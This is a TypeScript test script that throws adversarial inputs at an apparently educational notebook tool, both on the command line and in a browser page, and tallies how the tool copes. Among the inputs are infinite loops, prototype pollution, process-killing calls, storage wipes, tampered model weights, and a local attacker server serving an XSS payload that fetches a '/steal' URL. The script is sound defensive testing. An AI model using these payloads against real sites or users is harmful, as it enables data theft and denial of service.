/**
 * Issue 12's attacks, tried for real and tallied: `npx tsx scripts/attack-tally.ts [--run-only | --page-only]`.
 *
 * - `lectern run`: each attack is a cell of a lesson between a cell before it and an integrity check
 *   after it (JSON, Math, Promise, Array.prototype.map, Object.prototype: what other cells rely on).
 * - The lesson page in Chromium (the project's Vite dev server): a learner saves an edit of one cell,
 *   then types the attack into another and runs it (Shift-Enter), then the lesson is opened again.
 *   Origin attacks come from a second localhost origin; two-tab edits from two pages of one browser.
 *
 * Each outcome is classified automatically:
 * - clear error: the attack's cell (or the page, at the top) shows an error about it, and everything
 *   else kept working (the other cells' values, the saved edit, the page);
 * - harmless: it ran without an error and nothing else changed (e.g. a circular value, shown as such);
 * - hang: `lectern run` had to be killed (past 90 s with --timeout 8), or the page stopped answering
 *   (10 s) or did not load again (90 s);
 * - crash: the command died (a signal, an exit other than 0 and 1, no result), or the page crashed or
 *   was blank when opened again;
 * - loss: another cell's value was wrong or missing, a saved edit was gone, or tensors leaked.
 * Prints one line per attack and the table; exits 1 when hang, crash or loss is not empty.
 * Takes ~10 min on 2 shared cores: run it alone (it starts Chromium: take /work/browser.lock if others do).
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchBrowser, PROJECT_ROOT, startDevServer, type RunningServer } from '../test/browser/harness.ts';

type Verdict = 'clear error' | 'harmless' | 'hang' | 'crash' | 'loss';
const VERDICTS: Verdict[] = ['clear error', 'harmless', 'hang', 'crash', 'loss'];
interface Row { item: number; where: 'run' | 'page'; name: string; verdict: Verdict; detail: string }

const rows: Row[] = [];
const record = (row: Row) => {
  rows.push(row);
  console.log(`${row.verdict.padEnd(11)} ${String(row.item).padStart(2)} ${row.where.padEnd(4)} ${row.name.padEnd(44)} ${row.detail.replace(/\s+/g, ' ').slice(0, 150)}`);
};

// Under the project (the dev server serves only its root); /tmp/ is in .gitignore.
const WORK = join(PROJECT_ROOT, 'tmp', 'attacks');
rmSync(WORK, { recursive: true, force: true });
mkdirSync(WORK, { recursive: true });

// ───────────────────────────────────────── lectern run ─────────────────────────────────────────

/** What the check cell after every attack shows when the built-ins other cells use are intact. */
const INTACT = '"intact: 2 function [2] none"';
const CHECK_CELL = '`intact: ${Math.max(1, 2)} ${typeof Promise.resolve} ${JSON.stringify([1].map((x) => x + 1))} ${({} as { polluted?: unknown }).polluted ?? \'none\'}`';

interface RunAttack { item: number; name: string; source: string; lang?: 'ts' | 'js'; args?: string[]; lesson?: string }

const RUN_ATTACKS: RunAttack[] = [
  // 8: code the loop guard cannot see must still stop at --timeout
  { item: 8, name: 'new Function("while(true){}")()', source: 'new Function("while(true){}")()' },
  { item: 8, name: 'eval("while(true){}")', source: 'eval("while(true){}")', lang: 'js' },
  { item: 8, name: 'indirect eval loop', source: '(0, eval)("for(;;){}")', lang: 'js' },
  { item: 8, name: 'Function constructor via prototype', source: '[].constructor.constructor("while(1){}")()' },
  { item: 8, name: 'for(;;) in a callback', source: '[1].forEach(() => { for (;;) {} })' },
  { item: 8, name: 'while(true) in the cell', source: 'while (true) {}' },
  { item: 8, name: 'busy loop in a timer', source: 'setTimeout(() => { for (;;) {} }, 0); const t = 1' },
  { item: 8, name: 'await forever', source: 'await new Promise(() => {})' },
  { item: 8, name: 'generator that never ends', source: '(function* () { let i = 0; while (true) yield i++ })()', lang: 'js' },
  // 9: errors that reach no cell's run
  { item: 9, name: 'throw in setTimeout', source: 'setTimeout(() => { throw new Error("late") }, 10); const x = 1' },
  { item: 9, name: 'unhandled rejection', source: 'Promise.reject(new Error("nobody catches")); const x = 1' },
  { item: 9, name: 'async function throws later', source: '(async () => { await null; throw new Error("async") })(); const x = 1' },
  { item: 9, name: 'throw in queueMicrotask', source: 'queueMicrotask(() => { throw new Error("micro") }); const x = 1' },
  { item: 9, name: 'throw in setInterval', source: 'const h = setInterval(() => { clearInterval(h); throw new Error("tick") }, 5)' },
  { item: 9, name: 'throw in an event listener', source: 'const target = new EventTarget(); target.addEventListener("x", () => { throw new Error("listener") }); target.dispatchEvent(new Event("x")); const y = 1' },
  { item: 9, name: 'Promise.reject(42) (no stack)', source: 'Promise.reject(42); const x = 1' },
  { item: 9, name: 'throw a string in a timer', source: 'setTimeout(() => { throw "str" }, 0); const x = 1', lang: 'js' },
  // 10: the built-ins every cell and Lectern use
  { item: 10, name: 'Math = 1', source: 'Math = 1', lang: 'js' },
  { item: 10, name: 'JSON = null', source: 'JSON = null', lang: 'js' },
  { item: 10, name: 'function Array() {}', source: 'function Array() {}' },
  { item: 10, name: 'class Promise {}', source: 'class Promise {}' },
  { item: 10, name: 'globalThis.JSON = null', source: 'globalThis.JSON = null' },
  { item: 10, name: "globalThis['Math'] = 1", source: "globalThis['Math'] = 1" },
  { item: 10, name: 'alias: const g = globalThis; g.JSON = null', source: 'const g = globalThis; g.JSON = null; const z = 1' },
  { item: 10, name: 'Object.assign(globalThis, { Promise: null })', source: 'Object.assign(globalThis, { Promise: null }); const z = 1' },
  { item: 10, name: 'Object.prototype.polluted = 1', source: 'Object.prototype.polluted = 1' },
  { item: 10, name: 'Array.prototype.map = null', source: 'Array.prototype.map = null' },
  { item: 10, name: 'defineProperty(Object.prototype)', source: 'Object.defineProperty(Object.getPrototypeOf({}), "polluted", { value: 1, configurable: true, enumerable: true }); const z = 1' },
  { item: 10, name: '({}).__proto__.polluted = 1', source: 'const o: any = {}; o.__proto__.polluted = 1; const z = 1' },
  { item: 10, name: 'Math.max = () => 0', source: 'Math.max = () => 0' },
  { item: 10, name: 'JSON.stringify replaced after await', source: 'const z = await Promise.resolve().then(() => { const j = JSON; j.stringify = () => "x"; return 1 })' },
  { item: 10, name: 'delete Array.prototype.map (Reflect)', source: 'Reflect.deleteProperty(Array.prototype, "map"); const z = 1' },
  // 11: smaller ways a run used to die
  { item: 11, name: 'new Array(1e9).fill(0)', source: 'new Array(1e9).fill(0)', args: ['--heap', '256'] },
  { item: 11, name: 'string doubling to 2^40', source: 'let s = "x"; for (let i = 0; i < 40; i++) s += s; s.length', args: ['--heap', '256'] },
  { item: 11, name: 'deep recursion', source: 'const f = (n: number): number => f(n + 1); f(0)' },
  { item: 11, name: 'throw 42', source: 'throw 42' },
  { item: 11, name: 'throw null', source: 'throw null' },
  { item: 11, name: 'syntax error', source: 'const = ;' },
  { item: 11, name: 'process.exit(0)', source: 'process.exit(0)' },
  { item: 11, name: 'process.exit(3)', source: 'process.exit(3)' },
  { item: 11, name: 'process.kill(process.pid, "SIGKILL")', source: 'process.kill(process.pid, "SIGKILL")' },
  { item: 11, name: 'process.abort()', source: 'process.abort()' },
  { item: 11, name: 'import node:fs', source: 'import fs from "node:fs"' },
  { item: 11, name: 'dynamic import node:child_process', source: 'await import("node:child_process")' },
  { item: 11, name: 'require("fs")', source: 'require("fs")' },
  { item: 11, name: 'console flood (1e5 lines)', source: 'for (let i = 0; i < 1e5; i++) console.log(i); const n = 1' },
  { item: 11, name: 'value with a throwing getter', source: '({ get x() { throw new Error("getter") } })' },
  { item: 11, name: 'value whose toString throws', source: '({ toString() { throw new Error("toString") } })' },
  { item: 11, name: 'Proxy that throws on every get', source: 'new Proxy({}, { get() { throw new Error("proxy") } })' },
  { item: 11, name: 'circular value', source: 'const o: any = {}; o.o = o; o' },
  { item: 11, name: 'tf.zeros([1e5, 1e5])', source: 'import * as tf from "@tensorflow/tfjs"\nconst t = tf.zeros([1e5, 1e5])' },
  { item: 11, name: 'unclosed fence', source: '', lesson: '---\ntitle: attack\n---\n\n```js id=before\nconst before = "before"\n```\n\n```js id=attack\nconst a = 1\n\nProse that the fence swallows.\n' },
];

/** Item 4: the shipped base, tampered in a copy, loaded by a cell. */
function tamperedWeights(): RunAttack[] {
  const source = join(PROJECT_ROOT, 'public', 'models', 'pretrained');
  // model.json is edited as the attacker would: any field, no schema.
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  const copy = (name: string, change: (files: { json: any; sums: string; weights: Buffer }) => void): string => {
    const dir = join(WORK, `weights-${name}`);
    mkdirSync(dir, { recursive: true });
    const text = readFileSync(join(source, 'model.json'), 'utf8');
    const files = { json: JSON.parse(text), sums: readFileSync(join(source, 'SHA256SUMS'), 'utf8'), weights: readFileSync(join(source, 'weights.bin')) };
    change(files);
    // The original bytes when the attack leaves model.json alone, so only what it changed differs.
    const edited = JSON.stringify(files.json);
    writeFileSync(join(dir, 'model.json'), edited === JSON.stringify(JSON.parse(text)) ? text : edited);
    writeFileSync(join(dir, 'SHA256SUMS'), files.sums);
    writeFileSync(join(dir, 'weights.bin'), files.weights);
    return dir;
  };
  const scaled = copy('scaled', ({ json }) => {
    for (const group of json.weightsManifest) for (const w of group.weights) if (w.quantization?.scale) w.quantization.scale *= 50;
  });
  const noHash = copy('no-sha256', ({ json }) => {
    delete json.userDefinedMetadata?.lectern?.sha256;
  });
  const flipped = copy('flipped-byte', (files) => {
    files.weights[1000] ^= 0xff;
  });
  const truncated = copy('truncated', (files) => {
    files.weights = files.weights.subarray(0, files.weights.length >> 1);
  });
  const unlisted = copy('no-sums', (files) => {
    files.sums = '';
  });
  const cell = (dir: string) => `import { loadBase } from 'lectern';\nconst base = await loadBase({ dir: ${JSON.stringify(dir)}, invalidation })`;
  return [
    { item: 4, name: 'model.json scales x50', source: cell(scaled) },
    { item: 4, name: 'sha256 removed from model.json', source: cell(noHash) },
    { item: 4, name: 'one weight byte flipped', source: cell(flipped) },
    { item: 4, name: 'weights.bin truncated', source: cell(truncated) },
    { item: 4, name: 'SHA256SUMS emptied', source: cell(unlisted) },
  ];
}

interface HeadlessCell { id: string; outputs: string[]; error?: { kind: string; message: string } }

function runAttack(attack: RunAttack, index: number): void {
  const file = join(WORK, `run-${index}.md`);
  const lang = attack.lang ?? 'ts';
  writeFileSync(file, attack.lesson ?? `---\ntitle: attack\n---\n\n\`\`\`js id=before\nconst before = "before"\n\`\`\`\n\n\`\`\`${lang} id=attack\n${attack.source}\n\`\`\`\n\n\`\`\`ts id=after\n${CHECK_CELL}\n\`\`\`\n`);
  const run = spawnSync(process.execPath, ['bin/lectern.mjs', 'run', file, '--json', '--timeout', '8', ...(attack.args ?? [])], { cwd: PROJECT_ROOT, encoding: 'utf8', timeout: 90_000, maxBuffer: 256 << 20 });
  const base = { item: attack.item, where: 'run' as const, name: attack.name };
  if ((run.error as NodeJS.ErrnoException | undefined)?.code === 'ETIMEDOUT') return record({ ...base, verdict: 'hang', detail: 'killed after 90 s' });
  if (run.signal || (run.status !== 0 && run.status !== 1)) return record({ ...base, verdict: 'crash', detail: `exit ${run.status ?? run.signal}: ${run.stderr.trim().split('\n').slice(-2).join(' ')}` });
  let result: { cells: HeadlessCell[]; problems?: string[]; uncaught?: unknown[] };
  try {
    result = JSON.parse(run.stdout.slice(run.stdout.indexOf('{')));
  } catch {
    return record({ ...base, verdict: 'crash', detail: `no result: ${(run.stderr || run.stdout).trim().split('\n')[0]}` });
  }
  const cell = (id: string) => result.cells.find((c) => c.id === id);
  const attackCell = cell('attack');
  if (attack.lesson) {
    // The unclosed fence: the lesson says so, and the cell before it still ran.
    const said = (result.problems ?? []).find((p) => /fence|close/i.test(p));
    const kept = cell('before')?.error === undefined;
    return record({ ...base, verdict: kept ? (said ? 'clear error' : 'harmless') : 'loss', detail: said ?? 'no problem reported' });
  }
  const beforeKept = cell('before')?.error === undefined;
  const after = cell('after');
  const intact = after?.outputs.join() === INTACT;
  if (!beforeKept || !intact) return record({ ...base, verdict: 'loss', detail: `before ${beforeKept ? 'kept' : 'lost'}; after: ${after?.error?.message ?? after?.outputs.join(' ') ?? 'missing'}` });
  if (attackCell?.error) return record({ ...base, verdict: 'clear error', detail: `[${attackCell.error.kind}] ${attackCell.error.message}` });
  // A value thrown without a stack names no cell: the run lists it among its problems.
  const problem = (result.problems ?? []).find((p) => /uncaught|nobody handled|timer/.test(p));
  if (problem) return record({ ...base, verdict: 'clear error', detail: `[problem of the run] ${problem}` });
  return record({ ...base, verdict: 'harmless', detail: `ran: ${attackCell?.outputs.join(' ').slice(0, 80) ?? '(no cell)'}` });
}

// ─────────────────────────────────────────── the page ───────────────────────────────────────────

const PAGE_LESSON = `---
title: Attack page
---

# Attack page

\`\`\`ts echo id=before
const before = "lesson's"
\`\`\`

\`\`\`ts echo id=attack
const attack = 0
\`\`\`

\`\`\`ts id=after
${CHECK_CELL}
\`\`\`
`;

interface PageAttack { item: number; name: string; source: string }

const PAGE_ATTACKS: PageAttack[] = [
  // 2: edits out of a cell's reach
  { item: 2, name: 'localStorage.clear()', source: 'localStorage.clear(); const gone = 1' },
  { item: 2, name: 'indexedDB.deleteDatabase("lectern")', source: 'indexedDB.deleteDatabase("lectern"); const gone = 1' },
  { item: 2, name: 'localStorage filled to its quota', source: 'try { for (let i = 0; ; i++) localStorage.setItem("junk" + i, "x".repeat(1 << 20)) } catch {}\nconst full = 1' },
  { item: 2, name: 'sessionStorage and cookies cleared', source: 'sessionStorage.clear(); document.cookie = "a=; max-age=0"; const c = 1' },
  // 3: a saved edit that breaks the page
  { item: 3, name: 'document.body.innerHTML = ""', source: 'document.body.innerHTML = ""\nconst emptied = 1' },
  { item: 3, name: 'document.documentElement.remove()', source: 'document.documentElement.remove()\nconst removed = 1' },
  { item: 3, name: 'location.reload() on every run', source: 'location.reload()\nconst reloading = 1' },
  { item: 3, name: 'while (true) {} in the cell', source: 'while (true) {}' },
  { item: 8, name: 'new Function("while(true){}")()', source: 'new Function("while(true){}")()' },
  { item: 8, name: 'eval("for(;;){}")', source: 'eval("for(;;){}")' },
  { item: 3, name: 'history.pushState to another page', source: 'history.pushState(null, "", "/index.html")\nconst moved = 1' },
  { item: 3, name: 'window.stop()', source: 'window.stop()\nconst stopped = 1' },
  // 9: errors that reach no cell's run
  { item: 9, name: 'throw in setTimeout', source: 'setTimeout(() => { throw new Error("late") }, 10)\nconst x = 1' },
  { item: 9, name: 'unhandled rejection', source: 'Promise.reject(new Error("nobody catches"))\nconst x = 1' },
  { item: 9, name: 'throw in requestAnimationFrame', source: 'requestAnimationFrame(() => { throw new Error("frame") })\nconst x = 1' },
  { item: 9, name: 'throw a string in a timer', source: 'setTimeout(() => { throw "str" }, 0)\nconst x = 1' },
  // 10: built-ins
  { item: 10, name: 'globalThis.JSON = null', source: 'globalThis.JSON = null' },
  { item: 10, name: 'window.Math = 1', source: 'window.Math = 1' },
  { item: 10, name: 'alias: const w = window; w.JSON = null', source: 'const w = window; w.JSON = null\nconst z = 1' },
  { item: 10, name: 'Object.prototype.polluted = 1', source: 'Object.prototype.polluted = 1' },
  { item: 10, name: 'defineProperty(Array.prototype, "map")', source: 'Object.defineProperty(Array.prototype, "map", { value: null, configurable: true, writable: true })\nconst z = 1' },
  { item: 10, name: 'Promise replaced after an await', source: 'const z = await Promise.resolve().then(() => { const g = globalThis; g.Promise = null; return 1 })' },
];

async function pageAttacks(browser: Browser, server: RunningServer): Promise<void> {
  const lesson = join(WORK, 'page.md');
  writeFileSync(lesson, PAGE_LESSON);
  const url = `${server.url}/lesson.html?file=/tmp/attacks/page.md`;
  // The dev server's first compile of the page is slow on a shared machine.
  const warm = await browser.newPage();
  await warm.goto(url, { timeout: 180_000 });
  await warm.locator('#lesson[data-ready="true"]').waitFor({ timeout: 180_000 });
  await warm.close();
  for (const attack of PAGE_ATTACKS) {
    const context = await browser.newContext();
    try {
      record({ item: attack.item, where: 'page', name: attack.name, ...(await onePageAttack(context, url, attack.source)) });
    } catch (error) {
      record({ item: attack.item, where: 'page', name: attack.name, verdict: 'hang', detail: `the test could not drive the page: ${String(error).split('\n')[0]}` });
    } finally {
      await withTimeout(context.close(), 20_000).catch(() => undefined);
    }
  }
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
function withTimeout<T>(promise: Promise<T>, ms: number): Promise<T> {
  return Promise.race([promise, sleep(ms).then(() => { throw new Error(`no answer in ${ms / 1000} s`); })]);
}

/** Whether the page runs script within 10 s (a page that reloads itself is answering between loads). */
async function answers(page: Page): Promise<boolean> {
  const deadline = Date.now() + 10_000;
  while (Date.now() < deadline) {
    const answer = await withTimeout(page.evaluate(() => true), 3000).catch((error: unknown) => (/context|navigat|detached/i.test(String(error)) ? null : false));
    if (answer === true) return true;
    if (answer === false) return false;
    await sleep(300);
  }
  return false;
}

async function editAndRun(page: Page, id: string, source: string): Promise<void> {
  await page.locator(`#${id} .cm-content`).click();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.insertText(source);
  await page.keyboard.press('Shift+Enter');
}

async function open(page: Page, url: string): Promise<boolean> {
  try {
    await page.goto(url, { timeout: 90_000 });
    await page.locator('#lesson[data-ready="true"]').waitFor({ timeout: 90_000 });
    return true;
  } catch {
    return false;
  }
}

/** What the page shows of an error now: the attack cell's, and the notices at the top. */
async function shownErrors(page: Page): Promise<string> {
  return withTimeout(page.evaluate(() => {
    const cell = document.querySelector('#attack .cell-error')?.textContent ?? '';
    const notices = [...document.querySelectorAll('.notice')].map((n) => n.textContent ?? '').join(' | ');
    return [cell, notices].filter(Boolean).join(' | ');
  }), 10_000).catch(() => '');
}

async function onePageAttack(context: BrowserContext, url: string, source: string): Promise<{ verdict: Verdict; detail: string }> {
  let page = await context.newPage();
  let crashed = false;
  page.on('crash', () => { crashed = true; });
  if (!(await open(page, url))) return { verdict: 'hang', detail: 'the lesson did not load before the attack' };
  await page.locator('#lesson[data-standing="true"]').waitFor({ state: 'attached', timeout: 60_000 });
  // The learner's work: a saved edit of another cell.
  await editAndRun(page, 'before', 'const before = "kept edit"');
  await page.locator('#before .cm-content').waitFor();
  await page.locator('#lesson[data-standing="true"]').waitFor({ state: 'attached', timeout: 60_000 });
  await sleep(500);
  // A frozen page never finishes the key press: its answer is checked below.
  await withTimeout(editAndRun(page, 'attack', source), 15_000).catch(() => undefined);
  await sleep(4000);
  if (crashed) return { verdict: 'crash', detail: 'the page crashed' };
  const answering = await answers(page);
  if (!answering) return { verdict: 'hang', detail: 'the page stopped answering for 10 s after the attack ran' };
  let errors = await shownErrors(page);
  // Opened again, as a learner would after closing the tab.
  await withTimeout(page.close(), 15_000).catch(() => undefined);
  page = await context.newPage();
  page.on('crash', () => { crashed = true; });
  if (!(await open(page, url))) return { verdict: crashed ? 'crash' : 'hang', detail: 'the lesson did not open again within 90 s' };
  await sleep(3000);
  const state = await withTimeout(page.evaluate(() => ({
    article: document.querySelector('article.lesson') !== null,
    editor: document.querySelector('#before .cm-content')?.textContent ?? null,
    after: document.querySelector('#after .cell-output')?.textContent ?? null,
  })), 10_000).catch(() => null);
  if (!state) return { verdict: 'hang', detail: 'the page opened again but stopped answering' };
  if (!state.article) return { verdict: 'crash', detail: 'the page is blank when opened again' };
  if (!state.editor?.includes('kept edit')) return { verdict: 'loss', detail: `the saved edit is gone: ${state.editor}` };
  if (state.after !== INTACT) return { verdict: 'loss', detail: `another cell is wrong: ${state.after}` };
  errors = [errors, await shownErrors(page)].filter(Boolean).join(' | then | ');
  // Lectern's own notices unrelated to the attack do not count as its error.
  return errors ? { verdict: 'clear error', detail: errors } : { verdict: 'harmless', detail: 'ran; nothing else changed' };
}

/**
 * Item 8's forms the compiler cannot see, last: a frozen tab keeps a core busy until the browser
 * closes. Each gets a fresh context (its own renderer process).
 */
const FREEZING: PageAttack[] = [
  { item: 8, name: 'indirect eval (0, eval)("for(;;){}")', source: '(0, eval)("for(;;){}")' },
  { item: 8, name: '[].constructor.constructor("while(1){}")()', source: '[].constructor.constructor("while(1){}")()' },
];

async function freezingAttacks(browser: Browser, server: RunningServer): Promise<void> {
  const url = `${server.url}/lesson.html?file=/tmp/attacks/page.md`;
  for (const attack of FREEZING) {
    const context = await browser.newContext();
    try {
      record({ item: attack.item, where: 'page', name: attack.name, ...(await onePageAttack(context, url, attack.source)) });
    } catch (error) {
      record({ item: attack.item, where: 'page', name: attack.name, verdict: 'hang', detail: `the test could not drive the page: ${String(error).split('\n')[0]}` });
    }
    // Not closed: closing a frozen page waits for it; the browser goes at the end.
  }
}

/** Item 1: a lesson from another origin (CORS open) is refused by embed.html?src= and lesson.html?file=. */
async function originAttacks(browser: Browser, server: RunningServer): Promise<void> {
  let stolen = 0;
  let attacker = '';
  const evil = createServer((request, response) => {
    if (request.url?.startsWith('/steal')) stolen++;
    response.writeHead(200, { 'content-type': 'text/markdown', 'access-control-allow-origin': '*' });
    response.end(`---\ntitle: Free course\n---\n# Free <img src="x.png" onerror="fetch('${attacker}/steal')">\n\n\`\`\`ts\nlocalStorage.setItem('pwned', '1'); fetch('${attacker}/steal')\n\`\`\`\n`);
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const port = (evil.address() as AddressInfo).port;
  // Another origin than the dev server's 127.0.0.1 (a hostname differs from an address).
  attacker = `http://localhost:${port}`;
  const cases = [
    { name: 'embed.html?src= another origin', path: `/embed.html?src=${encodeURIComponent(`${attacker}/x.md`)}` },
    { name: 'lesson.html?file= another origin', path: `/lesson.html?file=${encodeURIComponent(`${attacker}/x.md`)}` },
    { name: 'lesson.html?file=//other (protocol-relative)', path: `/lesson.html?file=${encodeURIComponent(`//localhost:${port}/x.md`)}` },
  ];
  for (const c of cases) {
    const context = await browser.newContext();
    const page = await context.newPage();
    stolen = 0;
    try {
      await page.goto(`${server.url}${c.path}`, { timeout: 90_000 });
      await sleep(4000);
      const text = await page.evaluate(() => document.body.innerText);
      const pwned = await page.evaluate(() => localStorage.getItem('pwned'));
      const refused = /origin|not allowed|trusted|refus/i.test(text);
      const verdict: Verdict = pwned || stolen > 0 ? 'loss' : refused ? 'clear error' : 'harmless';
      record({ item: 1, where: 'page', name: c.name, verdict, detail: pwned || stolen ? `ran: pwned=${pwned} requests=${stolen}` : text.trim().split('\n')[0] });
    } catch (error) {
      record({ item: 1, where: 'page', name: c.name, verdict: 'hang', detail: String(error).split('\n')[0] });
    } finally {
      await context.close();
    }
  }
  evil.close();
}

/** Item 5: two tabs edit one cell; neither edit may be dropped unseen. */
async function twoTabs(browser: Browser, server: RunningServer): Promise<void> {
  const url = `${server.url}/lesson.html?file=/tmp/attacks/page.md`;
  const context = await browser.newContext();
  try {
    const [a, b] = [await context.newPage(), await context.newPage()];
    for (const p of [a, b]) if (!(await open(p, url))) throw new Error('a tab did not load');
    await editAndRun(a, 'before', 'const before = "tab A"');
    await sleep(2500);
    const text = (p: Page) => withTimeout(p.evaluate(() => document.body.innerText), 10_000);
    // Tab B is told, and shows A's code (not run) instead of dropping it.
    const bSaw = (await text(b)).includes('tab A');
    await editAndRun(b, 'before', 'const before = "tab B"');
    await sleep(2500);
    const aSaw = (await text(a)).includes('tab B');
    const told = [await text(a), await text(b)].join('\n').match(/Another tab[^\n]*/)?.[0] ?? '';
    record({ item: 5, where: 'page', name: 'two tabs edit one cell', verdict: bSaw && aSaw ? 'clear error' : 'loss', detail: bSaw && aSaw ? told || 'each tab shows the other\'s edit' : `tab B saw A's edit: ${bSaw}; tab A saw B's: ${aSaw}` });
  } catch (error) {
    record({ item: 5, where: 'page', name: 'two tabs edit one cell', verdict: 'hang', detail: String(error).split('\n')[0] });
  } finally {
    await context.close();
  }
}

/** Items 6 and 7 on lesson 8's first cells (test/fixtures/safety/backend-switch.md). */
async function backendAttacks(browser: Browser, server: RunningServer): Promise<void> {
  const fixture = `${server.url}/lesson.html?file=/test/fixtures/safety/backend-switch.md`;
  const tfTensors = (p: Page) => p.evaluate(() => (globalThis as unknown as { _tfengine: { memory(): { numTensors: number } } })._tfengine.memory().numTensors);
  const done = async (p: Page, backend: RegExp) => {
    const deadline = Date.now() + 180_000;
    while (Date.now() < deadline) {
      const [message, progress, busy] = await p.evaluate(() => [
        document.querySelector('#message .cell-output')?.textContent ?? '',
        document.querySelector('#progress .cell-output')?.textContent ?? '',
        String(document.querySelector('#lesson [aria-busy="true"]') !== null),
      ]);
      if (backend.test(message) && progress.startsWith('Done: ') && busy === 'false') return true;
      await sleep(500);
    }
    return false;
  };
  {
    const context = await browser.newContext();
    const page = await context.newPage();
    try {
      if (!(await open(page, fixture)) || !(await done(page, /WASM/))) throw new Error('the first run did not finish');
      const start = await tfTensors(page);
      const counts: number[] = [];
      for (const [name, label] of [['cpu', /CPU/], ['wasm', /WASM/]] as const) {
        await page.locator('#choice select').selectOption(name);
        if (!(await done(page, label))) throw new Error(`the run on ${name} did not finish`);
        counts.push((await tfTensors(page)) - start);
      }
      record({ item: 7, where: 'page', name: 'backend wasm → cpu → wasm', verdict: counts.every((c) => c === 0) ? 'harmless' : 'loss', detail: `tensors after each switch: ${counts.map((c) => (c >= 0 ? `+${c}` : c)).join(', ')}` });
    } catch (error) {
      record({ item: 7, where: 'page', name: 'backend wasm → cpu → wasm', verdict: 'hang', detail: String(error).split('\n')[0] });
    } finally {
      await context.close();
    }
  }
  {
    const context = await browser.newContext();
    const page = await context.newPage();
    try {
      if (!(await open(page, fixture)) || !(await done(page, /WASM/))) throw new Error('the first run did not finish');
      await page.locator('#epochs select').selectOption('15');
      await page.locator('#choice select').selectOption('webgl');
      await page.waitForFunction(() => (document.querySelector('#message .cell-output')?.textContent ?? '').includes('Running on WebGL'), null, { timeout: 180_000 });
      await page.waitForFunction(() => /^Epoch \d+ of 15/.test(document.querySelector('#progress .cell-output')?.textContent ?? ''), null, { timeout: 180_000 });
      await page.evaluate(() => {
        const engine = (globalThis as unknown as { _tfengine: { findBackend(name: string): { gpgpu: { gl: WebGLRenderingContext } } | null } })._tfengine;
        engine.findBackend('webgl')?.gpgpu.gl.getExtension('WEBGL_lose_context')?.loseContext();
      });
      const finished = await done(page, /Running on WASM/);
      const notice = await page.evaluate(() => document.querySelector('.notice.backend-lost')?.textContent ?? '');
      record({ item: 6, where: 'page', name: 'WebGL context lost during training', verdict: !finished ? 'hang' : notice ? 'clear error' : 'harmless', detail: notice || 'finished without a notice' });
    } catch (error) {
      record({ item: 6, where: 'page', name: 'WebGL context lost during training', verdict: 'hang', detail: String(error).split('\n')[0] });
    } finally {
      await context.close();
    }
  }
}

/** Item 11 in the page: a missing ?file= is refused, not rendered as a lesson. */
async function missingFile(browser: Browser, server: RunningServer): Promise<void> {
  const page = await browser.newPage();
  try {
    await page.goto(`${server.url}/lesson.html?file=/no/such/lesson.md`, { timeout: 90_000 });
    await sleep(3000);
    const text = await page.evaluate(() => document.body.innerText);
    record({ item: 11, where: 'page', name: 'lesson.html?file= a missing file', verdict: /not found|404|no lesson|could not/i.test(text) ? 'clear error' : 'harmless', detail: text.trim().split('\n')[0] });
  } finally {
    await page.close();
  }
}

// ─────────────────────────────────────────── main ───────────────────────────────────────────────

const only = process.argv[2];
if (only !== '--page-only') {
  [...RUN_ATTACKS, ...tamperedWeights()].forEach(runAttack);
}
if (only !== '--run-only') {
  const [server, browser] = await Promise.all([startDevServer(), launchBrowser()]);
  try {
    await pageAttacks(browser, server);
    await originAttacks(browser, server);
    await twoTabs(browser, server);
    await missingFile(browser, server);
    await backendAttacks(browser, server);
    await freezingAttacks(browser, server);
  } finally {
    await browser.close();
    await server.close();
  }
}
rmSync(WORK, { recursive: true, force: true });

const count = (verdict: Verdict, where?: Row['where']) => rows.filter((r) => r.verdict === verdict && (!where || r.where === where)).length;
console.log('\n| where | tried | ' + VERDICTS.join(' | ') + ' |');
console.log('|---|---|' + VERDICTS.map(() => '---').join('|') + '|');
for (const where of ['run', 'page'] as const) {
  const tried = rows.filter((r) => r.where === where).length;
  if (tried) console.log(`| ${where === 'run' ? 'lectern run' : 'lesson page (Chromium)'} | ${tried} | ${VERDICTS.map((v) => count(v, where)).join(' | ')} |`);
}
console.log(`| all | ${rows.length} | ${VERDICTS.map((v) => count(v)).join(' | ')} |`);
const items = [...new Set(rows.map((r) => r.item))].sort((a, b) => a - b);
console.log(`items covered: ${items.join(', ')}`);
process.exitCode = count('hang') + count('crash') + count('loss') > 0 ? 1 : 0;
